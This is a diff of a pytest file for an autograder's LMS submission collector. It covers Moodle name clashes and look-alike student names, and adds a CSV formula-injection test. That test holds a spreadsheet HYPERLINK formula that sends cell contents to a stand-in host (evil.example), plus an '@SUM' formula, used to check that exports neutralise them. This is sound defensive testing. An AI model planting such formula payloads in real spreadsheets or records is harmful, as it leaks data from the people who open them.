@@ -1,17 +1,23 @@
 """Hand-made Canvas and Moodle downloads with one hostile or unlucky upload each, collected by
 ``nbgrader zip_collect`` with the course's configuration: the upload costs its own student at
-most (or, for a name clash without a roster, stops the run before anything is copied)."""
+most (two accounts on one id, or a look-alike of a recorded name, are set aside with a note
+while the rest of the class is collected)."""
 from __future__ import annotations
 
+import csv
 import os
 import stat
 from pathlib import Path
 
 import pytest
+from nbgrader.api import Gradebook
 
 from autograder.pipeline.job import runner
-from autograder.pipeline.course import tool_env
+from autograder.pipeline.course import Course, tool_env
+from autograder.pipeline.term import feedback
+from autograder.pipeline.term.lms.lms import write_gradebook_csv
 from autograder.pipeline.demo.scenario import ROOT
+from test_lms_plan import JOSE, LOOK_ALIKES
 from zips import nested_bomb, zip_bytes
 
 pytestmark = pytest.mark.pipeline
@@ -54,14 +60,61 @@ def test_two_canvas_accounts_of_one_name_stay_two_students(course):
     assert "Student id doejane-1302: Canvas 'doejane' (user 1302" in log
 
 
-def test_two_moodle_students_of_one_name_stop_the_run_naming_both(course):
+def test_two_moodle_students_of_one_name_are_set_aside_and_the_rest_collected(course):
     download(course, {MOODLE.format("Jane Doe", 4411): b"a", MOODLE.format("Jane Doe", 4412): b"b",
                       MOODLE.format("Bob Roe", 4413): b"c"})
     code, log = collect(course)
-    assert code != 0
-    assert "nothing was collected" in log and "jane-doe: Moodle 'Jane Doe' (participant 4411" in log
-    assert "Moodle 'Jane Doe' (participant 4412" in log
-    assert not (course / "submitted").exists()
+    assert code == 0, log
+    assert handed_in(course) == {"bob-roe": b"c"}
+    assert "Moodle 'Jane Doe' (participant 4411, " in log and "2 accounts would be jane-doe (also " \
+        "Moodle 'Jane Doe' (participant 4412" in log
+    assert "2 account(s) set aside, each listed above" in log
+
+
+def test_eight_look_alikes_neither_merge_nor_stop_the_class(course):
+    download(course, {MOODLE.format(name, 5000 + i): name.encode()
+                      for i, name in enumerate(LOOK_ALIKES)} | {MOODLE.format("Bob Roe", 4413): b"c"})
+    code, log = collect(course)
+    assert code == 0, log
+    assert handed_in(course) == {"bob-roe": b"c"}
+    assert log.count("8 accounts would be jose-garcia") >= 8
+
+
+def test_a_look_alike_alone_is_set_aside_not_collected_as_the_student(course):
+    download(course, {MOODLE.format(JOSE, 5001): b"jose", MOODLE.format("Bob Roe", 4413): b"bob"})
+    assert collect(course)[0] == 0
+    for i, name in enumerate(LOOK_ALIKES[1:]):
+        download(course, {MOODLE.format(name, 5100 + i): b"impostor",
+                          MOODLE.format("Bob Roe", 4414 + i): b"bob again"})
+        code, log = collect(course)
+        assert code == 0, log
+        assert handed_in(course) == {"jose-garcia": b"jose", "bob-roe": b"bob again"}, name
+        assert "jose-garcia was Moodle 'José García' in an earlier download" in log
+    download(course, {MOODLE.format(JOSE, 5200): b"jose again"})
+    assert collect(course)[0] == 0 and handed_in(course)["jose-garcia"] == b"jose again"
+
+
+def test_a_formula_for_a_name_is_text_in_every_csv(course):
+    formula = '=HYPERLINK("evil.example?"&A2,"Jane Doe")'
+    download(course, {MOODLE.format(formula, 4411): b"a", MOODLE.format("Bob Roe", 4413): b"b"})
+    assert collect(course)[0] == 0
+    (course / "source" / UNIT).mkdir(parents=True)
+    with Gradebook(Course(course).db_url) as gb:
+        gb.add_assignment(UNIT)
+        for student in handed_in(course):
+            gb.add_student(student, last_name=formula, first_name="@SUM(1+1)")
+    tables = {path.name: list(csv.reader(open(path, encoding="utf-8"))) for path in [
+        course / "downloaded" / "lms-students.csv", write_gradebook_csv(course),
+        feedback.export(course)]}
+    cells = [cell for rows in tables.values() for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r")) or
+                cell.startswith("-") and not cell[1:].replace(".", "").isdigit()]
+    assert {name: sum(cell == "'" + formula for row in rows for cell in row)
+            for name, rows in tables.items()} == {"lms-students.csv": 1, "grades-lms.csv": 3,
+                                                  "grades.csv": 2}
+    assert ["'@SUM(1+1)", "0.0"] == [tables["grades.csv"][1][5], tables["grades.csv"][1][9]]
+    code, log = collect(course)      # the name as recorded is that student's next time too
+    assert code == 0 and "set aside" not in log and len(handed_in(course)) == 2
 
 
 def test_a_roster_tells_two_moodle_students_of_one_name_apart(course):
